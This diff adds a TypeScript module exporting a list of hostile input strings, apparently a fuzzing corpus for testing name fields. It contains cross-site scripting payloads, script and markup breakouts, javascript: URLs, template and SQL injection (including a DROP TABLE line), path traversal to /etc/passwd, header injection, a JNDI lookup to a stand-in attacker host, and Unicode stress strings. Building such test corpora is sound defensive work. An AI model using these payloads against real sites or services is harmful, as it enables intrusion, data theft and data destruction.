@@ -1,0 +1,123 @@
+const act = 'window.__pwn=1'
+
+const tags = [
+  'img src=x onerror',
+  'svg onload',
+  'body onload',
+  'input autofocus onfocus',
+  'video src=x onerror',
+]
+const breaks = [
+  '',
+  '">',
+  "'>",
+  '</span>',
+  '</button>',
+  '</style>',
+  '</title>',
+  ']]>',
+  '--><!-- -->',
+  '`>',
+]
+
+const markup = breaks.flatMap((before) => tags.map((tag) => `${before}<${tag}=${act}>`))
+
+const scripts = ['</script>', '', '"/>', '<!--', '<![CDATA['].map(
+  (before) => `${before}<script>${act}</script>`,
+)
+
+const urls = [
+  'javascript:',
+  'JaVaScRiPt:',
+  ' javascript:',
+  'java\nscript:',
+  'vbscript:',
+  'data:text/html,<script>',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="',
+  'blob:https://evil.localhost/',
+  'http://evil.localhost/',
+  'https://evil.localhost/',
+  '//evil.localhost/',
+  'file:///etc/passwd#',
+].map((scheme) => `${scheme}${act}`)
+
+const foreign = [
+  `<math><mtext></mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${act}>">`,
+  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${act}</script>"></foreignObject></svg>`,
+  `<template shadowrootmode=open><script>${act}</script></template>`,
+  `<object data="javascript:${act}">`,
+  `<embed src="javascript:${act}">`,
+  `<base href="https://evil.localhost/">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.localhost/">`,
+  `<link rel=stylesheet href="https://evil.localhost/x.css">`,
+  `<form action="https://evil.localhost/"><button>x</button></form>`,
+]
+
+const styles = [
+  '}*{background:url(https://evil.localhost/x)}',
+  'expression(alert(1))',
+  '</style><style>@import "https://evil.localhost/x.css"',
+  'red;background:url(javascript:1)',
+]
+
+const templates = [
+  `{{constructor.constructor("${act}")()}}`,
+  `\${${act}}`,
+  `#{${act}}`,
+  `<%= ${act} %>`,
+  '{name}',
+  '%s%n%x',
+]
+
+const letters = [
+  '\u202eteltek\u202c',
+  '\u2066\u2067\u2068turned\u2069',
+  '\u200b\u200c\u200d\ufeffnothing',
+  'a\u0000b\u0007c\u001b[31md',
+  '\ud800',
+  '\udfff\ud800',
+  'Z̸̧̛'.repeat(60),
+  'ﷺ﷽'.repeat(40),
+  '🏴‍☠️'.repeat(50),
+  'W'.repeat(10_000),
+  'x '.repeat(50_000),
+  '\n\r\t'.repeat(50),
+]
+
+const names = [
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  'NaN',
+  'null',
+  'undefined',
+  '-0',
+  '1e999',
+  '0x0',
+]
+
+const queries = [
+  "' OR 1=1 --",
+  '"; DROP TABLE tokens; --',
+  '../../../etc/passwd',
+  '%00%0d%0aSet-Cookie:x=1',
+  `\${jndi:ldap://evil.localhost/a}`,
+  '\\u003cscript\\u003e',
+  '&lt;script&gt;',
+  '&#x3C;img src=x&#x3E;',
+]
+
+/** Strings that strangers put where a name is expected. */
+export const hostileStrings: readonly string[] = [
+  ...markup,
+  ...scripts,
+  ...urls,
+  ...foreign,
+  ...styles,
+  ...templates,
+  ...letters,
+  ...names,
+  ...queries,
+]
